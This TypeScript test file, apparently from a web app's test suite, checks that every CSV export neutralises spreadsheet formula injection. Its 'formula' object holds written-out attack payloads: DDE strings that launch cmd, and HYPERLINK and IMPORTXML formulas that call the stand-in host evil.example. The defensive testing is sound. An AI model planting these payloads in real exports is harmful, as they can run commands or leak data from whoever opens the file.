/**
 * CSV formula injection: text that a spreadsheet would run as a formula (= + - @ tab, carriage
 * return) is put into every field that reaches a CSV download — customer details and words,
 * a competitor named in an interview, a campaign name — and every CSV route in
 * the route table (each dashboard chart too) is downloaded: no text cell starts like a formula.
 * Guarding one route at a time is tested beside each export; this covers that none is missed.
 */
import { parse } from 'csv-parse/sync';
import { createApiKey } from '../../src/modules/accounts/accounts.service';
import { createCampaign } from '../../src/modules/campaigns/campaigns.service';
import { dashboardCharts } from '../../src/modules/dashboard/dashboard-tables';
import { createStaff, signIn, type Agent } from '../helpers/auth';
import { draft } from '../integration/campaigns/support';
import { startFuzzBed, type FuzzBed } from './fuzz-bed';
import { seedCustomers } from './seed';

let bed: FuzzBed;
let admin: Agent;
let campaignId: string;

const formula = {
  name: '=HYPERLINK("http://evil.example/name","open")',
  company: '+cmd|" /C calc"!A0',
  plan: '-2+3+cmd|" /C calc"!A0',
  tag: '@SUM(1+1)*cmd|" /C calc"!A0',
  phone: '\t=1+1',
  reason: '\r=1+1 said the customer',
  competitor: '=IMPORTXML("http://evil.example","//a")',
  campaign: '@campaign=1+1',
};

beforeAll(async () => {
  bed = await startFuzzBed();
  const staff = await createStaff(bed.connection, 'admin');
  admin = await signIn(bed.url, staff);
  const key = (await createApiKey(bed.connection, { name: 'formula', scopes: ['events:write'] })).token;
  const reported = await bed.send({
    method: 'POST',
    path: '/api/v1/churn-events',
    headers: { authorization: `Bearer ${key}` },
    json: {
      eventId: 'formula-1',
      customer: { externalId: 'formula-1', name: formula.name, email: 'formula@example.com', company: formula.company, plan: formula.plan, phone: formula.phone, tags: [formula.tag], revenue: { monthly: 20 } },
      at: new Date(Date.now() - 7 * 86_400_000).toISOString(),
      trigger: 'cancellation',
      cause: { code: 'price', reason: formula.reason },
    },
  });
  expect(reported.status).toBe(201);
  // Interviewed: another customer, so the first keeps its own words as its cause.
  const [interviewed] = await seedCustomers(bed.connection, 1);
  const interview = await admin.postForm(`/customers/${String(interviewed._id)}/interviews`, {
    heldOn: new Date().toISOString().slice(0, 10),
    channel: 'call',
    interviewerId: staff.id,
    notes: 'Went to a competitor.',
    primaryCause: 'competitor',
    competitor: formula.competitor,
  });
  expect(interview.status).toBe(303);
  campaignId = String((await createCampaign(bed.connection, draft({ name: formula.campaign }), staff.id))._id);
}, 30_000);

afterAll(async () => {
  await bed.close();
});

it('when every CSV download is fetched, then no text cell starts like a formula, and the guarded text is there', async () => {
  const csvRoutes = bed.routes.filter((route) => route.method === 'get' && route.path.endsWith('.csv'));
  const downloads = csvRoutes.flatMap((route) => {
    if (route.path === '/dashboard/:chart.csv') return dashboardCharts.map((chart) => `/dashboard/${chart}.csv?range=12`);
    return [route.path.replace(':id', campaignId)];
  });
  const formulas: string[] = [];
  const guarded = new Set<string>();

  for (const path of downloads) {
    const answer = await bed.send({ method: 'GET', path, headers: { cookie: admin.cookie(), 'accept-language': 'en' } });
    expect([path, answer.status]).toEqual([path, 200]);
    const rows = parse(answer.text, { bom: true, relax_column_count: true }) as string[][];
    for (const cell of rows.flat()) {
      if (/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) formulas.push(`${path}: ${JSON.stringify(cell)}`);
      // Stored trimmed, as the API reads text.
      for (const [field, text] of Object.entries(formula)) if (cell === `'${text.trim()}`) guarded.add(field);
    }
  }

  expect(csvRoutes.length).toBeGreaterThanOrEqual(3);
  expect(formulas).toEqual([]);
  expect([...guarded].sort()).toEqual(Object.keys(formula).sort());
});
